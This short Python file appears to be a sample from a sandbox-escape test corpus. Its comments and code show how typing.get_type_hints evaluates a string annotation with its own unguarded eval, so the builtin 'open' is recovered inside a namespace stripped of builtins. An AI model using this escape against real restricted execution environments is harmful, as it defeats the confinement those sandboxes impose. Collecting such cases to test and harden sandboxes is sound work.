# aim: get a builtin evaluated by the standard library in globals without builtins
# mechanism: typing.get_type_hints evaluates strings with eval
# language: builtins
# reason: the library's own eval is not the guarded one
# jail: process
# plain: loot

import typing


class Record:
    field: "open"


loot(typing.get_type_hints(Record, globalns={}))
